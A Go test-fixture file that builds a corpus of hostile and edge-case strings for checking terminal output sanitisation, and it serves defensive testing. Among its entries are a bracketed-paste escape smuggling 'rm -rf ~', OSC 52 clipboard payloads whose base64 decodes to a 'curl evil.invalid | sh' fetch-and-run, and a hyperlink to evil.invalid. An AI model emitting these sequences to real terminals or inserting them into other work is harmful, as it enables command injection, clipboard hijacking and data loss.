package sanitize

import (
	"fmt"
	"strings"
)

// HostileCase is one string a malicious or broken server might send.
type HostileCase struct{ Name, Text string }

// Corpus returns hostile and tricky strings for tests across the project:
// escape sequences, C0/C1 controls, invalid UTF-8, bidi and invisible
// characters, and legitimate text that must survive. It returns a new slice
// on each call.
func Corpus() []HostileCase {
	cases := []HostileCase{
		// Controls: a plain name is the control group and must stay unchanged.
		{"ascii-name", "prod-key-01"},
		{"csi-clear-screen", "\x1b[2Jowned"},
		{"csi-home", "\x1b[Hstart"},
		{"csi-cursor-up", "a\x1b[10Ab"},
		{"csi-cursor-position", "a\x1b[5;5Hb"},
		{"sgr-hidden", "visible\x1b[8mhidden"},
		{"sgr-colour", "\x1b[31;1mred\x1b[0m"},
		{"csi-alt-screen", "\x1b[?1049h"},
		{"csi-device-status-report", "\x1b[6n"},
		{"bracketed-paste-end", "\x1b[201~rm -rf ~\r"},
		{"esc-reset-ris", "\x1bc"},
		{"osc52-clipboard-bel", "\x1b]52;c;Y3VybCBldmlsLmludmFsaWQgfCBzaA==\x07"},
		{"osc52-clipboard-st", "\x1b]52;c;Y3VybCBldmlsLmludmFsaWQgfCBzaA==\x1b\\"},
		{"osc8-hyperlink", "\x1b]8;;https://evil.invalid/\x1b\\click me\x1b]8;;\x1b\\"},
		{"osc0-window-title", "\x1b]0;pwned\x07"},
		{"osc2-window-title", "\x1b]2;pwned\x1b\\"},
		{"osc1337-iterm", "\x1b]1337;File=inline=1:AAAA\x07"},
		{"dcs-xtgettcap", "\x1bP+q544e\x1b\\"},
		{"apc-kitty-graphics", "\x1b_Ga=T,f=100;AAAA\x1b\\"},
		{"pm", "\x1b^private message\x1b\\"},
		{"sos", "\x1bXstart of string\x1b\\"},
		{"esc-flood-200", strings.Repeat("\x1b", 200)},
		// C1 controls encoded as UTF-8; some terminals act on them.
		{"c1-all", c1All()},
		{"c1-csi", "\u009b"},
		{"c1-osc", "\u009d"},
		{"c1-csi-clear", "\u009b2J"},
		{"c1-osc-title", "\u009d0;pwned\u009c"},
		{"c1-dcs", "\u0090+q544e\u009c"},
		{"c1-nel", "a\u0085b"},
		{"raw-8bit-csi", "\x9b2J"},
		// C0 whitespace and friends.
		{"cr", "safe\rEVIL"},
		{"lf", "line1\nline2"},
		{"crlf", "line1\r\nline2"},
		{"form-feed", "a\fb"},
		{"tab", "a\tb"},
		{"vertical-tab", "a\vb"},
		{"backspace", "public\b\b\b\b\b\bsecret"},
		{"bell", "ding\a"},
		{"nul", "a\x00b"},
		{"del", "a\x7fb"},
		// Invalid UTF-8.
		{"invalid-lone-ff", "a\xffb"},
		{"invalid-truncated-multibyte", "a\xe6\x9d"},
		{"invalid-overlong-slash", "a\xc0\xafb"},
		{"invalid-cesu-surrogate", "a\xed\xa0\x80b"},
		{"invalid-lone-continuation", "\x80\xbf"},
		// Bidi and invisible characters.
		{"bidi-rlo", "invoice\u202Egpj.exe"},
		{"bidi-lre-rle-pdf-lro", "\u202Aa\u202Bb\u202Cc\u202Dd"},
		{"bidi-isolates", "\u2066a\u2067b\u2068c\u2069"},
		{"bidi-marks", "a\u200Eb\u200Fc\u061Cd"},
		{"zero-width", "ad\u200Bm\u200Ci\u200Dn"},
		{"word-joiner-invisible-ops", "a\u2060\u2061\u2062\u2063\u2064b"},
		{"bom", "\uFEFFkey"},
		{"soft-hyphen", "ad\u00ADmin"},
		{"line-paragraph-separator", "a\u2028b\u2029c"},
		{"mongolian-vowel-separator", "a\u180Eb"},
		{"interlinear-annotation", "\uFFF9a\uFFFAb\uFFFB"},
		{"tag-characters", "key\U000E0041\U000E0042\U000E007F"},
		{"hangul-filler", "\u3164\uFFA0"},
		{"combining-grapheme-joiner", "a\u034Fb"},
		{"arabic-number-sign-prepend", "\u0600a"},
		{"malayalam-dot-reph-prepend", "\u0D4E x"},
		{"noncharacters", "\uFFFE\uFFFF\uFDD0"},
		{"mark-at-start", "\u0301abc"},
		{"mark-on-placeholder", "\x1b\u20E0"},
		{"variation-selector-heart", "\u2764\uFE0F"},
		{"keycap", "#\uFE0F\u20E3"},
		{"mixed-everything", "\x1b[31m\u009b\u202E\u200Bok\xff\r\n"},
		// Legitimate text that must stay readable.
		{"accents", "Müller & Söhne"},
		{"cjk", "東京の本番キー"},
		{"fullwidth", "ＡＰＩ　ＫＥＹ"},
		{"emoji", "🚀 deploy"},
		{"emoji-zwj-family", "👨\u200D👩\u200D👧\u200D👦"},
		{"emoji-flags", "🇯🇵🇫🇷🇺🇦"},
		{"emoji-skin-tone", "👍🏽"},
		// Emoji sequences that terminals draw wider or narrower than a
		// grapheme-aware measure says, unless Text rewrites them.
		{"emoji-zwj-technologist", "👩\u200D💻"},
		{"emoji-zwj-skin-tone", "🧑🏽\u200D💻"},
		{"emoji-zwj-rainbow-flag", "🏳\uFE0F\u200D🌈"},
		{"emoji-zwj-heart-on-fire", "❤\uFE0F\u200D🔥"},
		{"emoji-zwj-long-chain", strings.Repeat("👩\u200D", 8) + "👩"},
		{"zwj-leading-trailing", "\u200D🚀\u200D"},
		{"zwj-between-letter-and-emoji", "x\u200D🚀\u200Dx"},
		{"emoji-skin-tone-without-base", "🏽 x🏽\x1b🏽"},
		{"emoji-flag-lone-indicator", "\U0001F1EF"},
		{"emoji-flags-odd-indicator", "🇯🇵\U0001F1EB"},
		{"zalgo", "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034Da\u036B\u0357\u0364"},
		{"arabic", "مفتاح الإنتاج"},
		{"hebrew-points", "שָׁלוֹם"},
		{"long-name-10000", strings.Repeat("n", 10000)},
		{"long-cjk-2000", strings.Repeat("鍵", 2000)},
	}
	return append(cases, c1Cases()...)
}

// c1Cases returns one case per C1 control U+0080..U+009F.
func c1Cases() []HostileCase {
	var cases []HostileCase
	for r := rune(0x80); r <= 0x9f; r++ {
		cases = append(cases, HostileCase{fmt.Sprintf("c1-%U", r), "a" + string(r) + "b"})
	}
	return cases
}

func c1All() string {
	var b strings.Builder
	for r := rune(0x80); r <= 0x9f; r++ {
		b.WriteRune(r)
	}
	return b.String()
}
